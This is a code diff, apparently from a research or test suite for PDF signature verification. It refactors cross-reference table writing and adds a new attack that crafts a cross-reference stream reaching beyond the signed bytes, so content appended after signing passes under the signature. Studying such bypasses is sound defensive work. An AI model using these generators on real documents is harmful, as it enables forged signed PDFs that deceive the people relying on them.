@@ -159,6 +159,13 @@ def filled_up(make: Callable[[int], tuple[bytes, int]]) -> bytes:
     return made
 
 
+def with_table(out: bytearray, places: dict[int, int], before: bytes) -> bytes:
+    """Write a table of these objects behind them."""
+    lines = b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
+    tail = b"trailer\n<</Size 10000/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (before, len(out))
+    return bytes(out + b"xref\n0 1\n0000000000 65535 f \n" + lines + tail)
+
+
 def placed(made: bytes, number: int, offset: int) -> bytes:
     """List an object elsewhere than it stands, and blank what stands there."""
     listed = re.sub(rb"(\n%d 1\n)\d{10}" % number, rb"\g<1>%010d" % offset, made)
@@ -212,13 +219,37 @@ def _stream_ahead(victims: Victims) -> bytes:
         places[300] = len(out)
         row = b"\x01" + places[50].to_bytes(4, "big") + b"\x00"
         out += body_of(300, stream(row, b"/Type/XRef/W[1 4 1]/Index[50 1]/Size 301"))
-        lines = b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
-        tail = b"trailer\n<</Size 301/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
-        start = len(out)
-        out += b"xref\n0 1\n0000000000 65535 f \n" + lines + tail % (newest_table(data), start)
-        return bytes(out), places[300]
+        return with_table(out, places, newest_table(data)), places[300]
 
     return filled_up(grown)
+
+
+@attack(
+    "a table that names what is still to come: a row of a cross-reference stream that runs out of the signed part",
+    OURS,
+)
+def _row_ahead(victims: Victims) -> bytes:
+    """Let the stream that the signed trailer points to end in an appended one, whose octets are its last row."""
+    made = append(small_pdf(catalog=EMPTY), {**annotated(b"9000 0 R"), 9000: STAMP})
+    made = re.sub(rb"(?<=\n)9000 1\n\d{10} 00000 n \n", b"", made)
+    room = with_place(victims.signing, made, WIDGET, SEAL, stamp=False)
+    table, end = room.rindex(b"xref\n0 1\n"), room.rindex(b">>\nstartxref")
+    head = b"300 0 obj\n<</Type/XRef/W[1 4 1]/Index[1000 %05d 9000 1]/Size 99999/Length %05d>>stream\n"
+    begin, pointer = len(head % (0, 0)), b"/XRefStm %d" % table
+    rest = room[table:end] + pointer + room[end:].replace(b"%d" % table, b"%d" % (table + begin))
+    opened = b"400 0 obj\n<</Length 6%s>>stream\n"
+    padding = b" " * (-(len(rest) + len(opened % b"")) % 6)
+    length = len(rest) + len(opened % padding) + 6
+    data = signed_in_place(
+        victims.signing, room[:table] + head % (length // 6 - 1, length) + rest, stamp=False
+    )
+    out, places = bytearray(data), {400: len(data)}
+    row = b"\x01" + data.index(b"9000 0 obj\n<</Type/Annot").to_bytes(4, "big") + b"\x00"
+    out += opened % padding + row + b"\nendstream\nendobj\n"
+    places[1] = len(out)
+    catalog = re.findall(rb"\n1 0 obj\n(.*?)\nendobj", data, re.DOTALL)[-1]
+    out += body_of(1, catalog[:-2] + b"/DSS<</Certs[400 0 R]>>>>")
+    return with_table(out, places, newest_table(data))
 
 
 def through(victims: Victims, holder: bytes, *, more: Mapping[int, bytes], catalog: str = "") -> bytes:
